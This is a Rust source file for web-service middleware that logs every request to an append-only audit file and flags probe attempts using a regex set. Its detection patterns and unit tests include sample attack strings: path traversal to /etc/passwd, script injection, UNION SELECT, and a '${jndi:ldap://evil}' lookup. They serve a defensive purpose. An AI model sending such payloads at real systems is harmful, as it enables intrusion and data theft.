//! Security audit log and request auditing middleware.
//!
//! Every request is appended as one JSON line to an append-only log file and
//! counted in the in-memory metrics. Requests whose path or query matches a
//! known attack signature are flagged as suspicious and logged at warn level.

use std::fs::{File, OpenOptions};
use std::io::{BufRead, BufReader, Write as _};
use std::path::{Path, PathBuf};
use std::sync::{LazyLock, Mutex};
use std::time::Instant;

use axum::{
    extract::{Request, State},
    middleware::Next,
    response::Response,
};
use chrono::{DateTime, Utc};
use percent_encoding::percent_decode_str;
use regex::RegexSet;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use super::request_id::{REQUEST_ID_HEADER, RequestId};
use crate::state::AppState;

/// Signatures of common probe and injection attempts, matched against the
/// request path and query string.
static SUSPICIOUS_PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r"\.\./",
        r"(?i)<script",
        r"(?i)union[+ ]select",
        r"(?i)(;|%3b)[+ ]*(drop|delete|truncate)[+ ]",
        r"(?i)/etc/passwd",
        r"(?i)\.(env|git|htaccess)(/|$|\?)",
        r"(?i)(wp-admin|wp-login|phpmyadmin)",
        r"(?i)\$\{jndi:",
        r"%00",
    ])
    .expect("static suspicious pattern set is valid")
});

/// Returns true when a request target looks like a probe or injection
/// attempt. The target is matched both raw and percent-decoded, so encoded
/// payloads like `%3Cscript%3E` are caught too.
#[must_use]
pub fn is_suspicious(target: &str) -> bool {
    if SUSPICIOUS_PATTERNS.is_match(target) {
        return true;
    }
    let decoded = percent_decode_str(target).decode_utf8_lossy();
    SUSPICIOUS_PATTERNS.is_match(&decoded)
}

/// Errors raised by the security log.
#[derive(Debug, Error)]
pub enum SecurityLogError {
    /// Filesystem operation failed.
    #[error("I/O error: {0}")]
    Io(#[from] std::io::Error),

    /// A stored line could not be encoded or decoded.
    #[error("serialization error: {0}")]
    Serde(#[from] serde_json::Error),
}

/// One audited request.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AuditEvent {
    pub timestamp: DateTime<Utc>,
    pub method: String,
    pub path: String,
    pub status: u16,
    pub ip: String,
    pub user_agent: Option<String>,
    /// Correlation ID from the request-ID middleware, absent in log lines
    /// written before the field existed.
    #[serde(default)]
    pub request_id: Option<String>,
    pub duration_ms: u64,
    pub suspicious: bool,
}

/// Append-only JSON-lines security log.
///
/// Writes hold a mutex so concurrent requests never interleave lines. Reads
/// reopen the file, so `tail` sees every line written so far.
pub struct SecurityLog {
    path: PathBuf,
    file: Mutex<File>,
}

impl SecurityLog {
    /// Open (or create) the log file at `path`.
    ///
    /// # Errors
    ///
    /// Returns `SecurityLogError::Io` if the file or its parent directory
    /// cannot be created.
    pub fn open(path: &Path) -> Result<Self, SecurityLogError> {
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)?;
        }

        let file = OpenOptions::new().create(true).append(true).open(path)?;

        Ok(Self {
            path: path.to_path_buf(),
            file: Mutex::new(file),
        })
    }

    /// Append one event as a JSON line.
    ///
    /// # Errors
    ///
    /// Returns `SecurityLogError` if encoding or writing fails.
    pub fn append(&self, event: &AuditEvent) -> Result<(), SecurityLogError> {
        let line = serde_json::to_string(event)?;
        let mut file = self.file.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
        writeln!(file, "{line}")?;
        Ok(())
    }

    /// The most recent `limit` events, oldest first.
    ///
    /// Lines that fail to parse are skipped rather than failing the whole
    /// read, so one corrupt line cannot hide the rest of the log.
    ///
    /// # Errors
    ///
    /// Returns `SecurityLogError::Io` if the file cannot be read.
    pub fn tail(&self, limit: usize) -> Result<Vec<AuditEvent>, SecurityLogError> {
        let reader = BufReader::new(File::open(&self.path)?);
        let mut events: Vec<AuditEvent> = Vec::new();

        for line in reader.lines() {
            let line = line?;
            if let Ok(event) = serde_json::from_str(&line) {
                events.push(event);
            }
        }

        let skip = events.len().saturating_sub(limit);
        Ok(events.split_off(skip))
    }
}

/// Middleware that audits every request.
///
/// Runs the rest of the stack, then records the outcome in the metrics and
/// the security log. Logging failures are reported via tracing but never
/// fail the request.
pub async fn audit_middleware(
    State(state): State<AppState>,
    request: Request,
    next: Next,
) -> Response {
    let started = Instant::now();
    let method = request.method().to_string();
    let path = request.uri().path().to_string();
    let target = request
        .uri()
        .path_and_query()
        .map_or_else(|| path.clone(), ToString::to_string);
    let ip = client_ip(&request);
    let user_agent = request
        .headers()
        .get(axum::http::header::USER_AGENT)
        .and_then(|v| v.to_str().ok())
        .map(ToString::to_string);
    let request_id = request
        .extensions()
        .get::<RequestId>()
        .map(|id| id.0.clone())
        .or_else(|| {
            request
                .headers()
                .get(REQUEST_ID_HEADER)
                .and_then(|v| v.to_str().ok())
                .map(ToString::to_string)
        });

    let suspicious = is_suspicious(&target);
    if suspicious {
        tracing::warn!(method = %method, target = %target, ip = %ip, "suspicious request");
    }

    let response = next.run(request).await;
    let status = response.status().as_u16();
    let duration_ms = u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX);

    state.metrics().record(status, suspicious, Utc::now());

    let event = AuditEvent {
        timestamp: Utc::now(),
        method,
        path,
        status,
        ip,
        user_agent,
        request_id,
        duration_ms,
        suspicious,
    };
    if let Err(e) = state.security_log().append(&event) {
        tracing::error!(error = %e, "failed to append security log");
    }

    response
}

/// Best-effort client IP from proxy headers.
///
/// Checks `CF-Connecting-IP`, then the first entry of `X-Forwarded-For`,
/// then `X-Real-IP`. Falls back to `"unknown"` when no header is present.
#[must_use]
pub fn client_ip<T>(request: &axum::http::Request<T>) -> String {
    client_ip_from_headers(request.headers())
}

/// Same as [`client_ip`], for handlers that only have the headers.
#[must_use]
pub fn client_ip_from_headers(headers: &axum::http::HeaderMap) -> String {
    for (header, split) in [
        ("cf-connecting-ip", false),
        ("x-forwarded-for", true),
        ("x-real-ip", false),
    ] {
        if let Some(value) = headers.get(header).and_then(|v| v.to_str().ok()) {
            let candidate = if split {
                value.split(',').next().unwrap_or(value)
            } else {
                value
            };
            let candidate = candidate.trim();
            if !candidate.is_empty() {
                return candidate.to_string();
            }
        }
    }

    "unknown".to_string()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use tempfile::tempdir;

    fn event(path: &str, status: u16) -> AuditEvent {
        AuditEvent {
            timestamp: Utc::now(),
            method: "GET".to_string(),
            path: path.to_string(),
            status,
            ip: "203.0.113.7".to_string(),
            user_agent: Some("test".to_string()),
            request_id: Some("11111111-2222-3333-4444-555555555555".to_string()),
            duration_ms: 3,
            suspicious: false,
        }
    }

    #[test]
    fn test_suspicious_patterns() {
        assert!(is_suspicious("/api/products?q=../../etc/passwd"));
        assert!(is_suspicious("/search?q=<script>alert(1)</script>"));
        assert!(is_suspicious("/api?id=1+UNION+SELECT+password"));
        assert!(is_suspicious("/wp-admin/setup.php"));
        assert!(is_suspicious("/.env"));
        assert!(is_suspicious("/x?u=${jndi:ldap://evil}"));
    }

    #[test]
    fn test_encoded_payloads_are_detected() {
        assert!(is_suspicious("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"));
        assert!(is_suspicious("/api/products?q=%2e%2e%2f%2e%2e%2fetc%2fpasswd"));
        assert!(is_suspicious("/api?id=1%20UNION%20SELECT%20password"));
    }

    #[test]
    fn test_normal_requests_not_suspicious() {
        assert!(!is_suspicious("/api/cart"));
        assert!(!is_suspicious("/api/products?category=tops&page=2"));
        assert!(!is_suspicious("/health"));
    }

    #[test]
    fn test_append_and_tail() {
        let dir = tempdir().unwrap();
        let log = SecurityLog::open(&dir.path().join("security.jsonl")).unwrap();

        for i in 0..5 {
            log.append(&event(&format!("/p/{i}"), 200)).unwrap();
        }

        let events = log.tail(3).unwrap();
        assert_eq!(events.len(), 3);
        assert_eq!(events[0].path, "/p/2");
        assert_eq!(events[2].path, "/p/4");
    }

    #[test]
    fn test_tail_skips_corrupt_lines() {
        let dir = tempdir().unwrap();
        let path = dir.path().join("security.jsonl");
        let log = SecurityLog::open(&path).unwrap();

        log.append(&event("/a", 200)).unwrap();
        std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .unwrap()
            .write_all(b"not json\n")
            .unwrap();
        log.append(&event("/b", 404)).unwrap();

        let events = log.tail(10).unwrap();
        assert_eq!(events.len(), 2);
        assert_eq!(events[1].path, "/b");
    }

    #[test]
    fn test_tail_accepts_lines_without_request_id() {
        let dir = tempdir().unwrap();
        let path = dir.path().join("security.jsonl");
        let log = SecurityLog::open(&path).unwrap();

        let mut legacy = serde_json::to_value(event("/old", 200)).unwrap();
        legacy.as_object_mut().unwrap().remove("request_id");
        std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .unwrap()
            .write_all(format!("{legacy}\n").as_bytes())
            .unwrap();

        let events = log.tail(10).unwrap();
        assert_eq!(events.len(), 1);
        assert_eq!(events[0].request_id, None);
    }

    #[test]
    fn test_client_ip_prefers_cloudflare() {
        let request = axum::http::Request::builder()
            .header("cf-connecting-ip", "198.51.100.9")
            .header("x-forwarded-for", "10.0.0.1, 10.0.0.2")
            .body(())
            .unwrap();
        assert_eq!(client_ip(&request), "198.51.100.9");
    }

    #[test]
    fn test_client_ip_forwarded_for_first_hop() {
        let request = axum::http::Request::builder()
            .header("x-forwarded-for", "203.0.113.5, 10.0.0.2")
            .body(())
            .unwrap();
        assert_eq!(client_ip(&request), "203.0.113.5");
    }

    #[test]
    fn test_client_ip_unknown() {
        let request = axum::http::Request::builder().body(()).unwrap();
        assert_eq!(client_ip(&request), "unknown");
    }
}
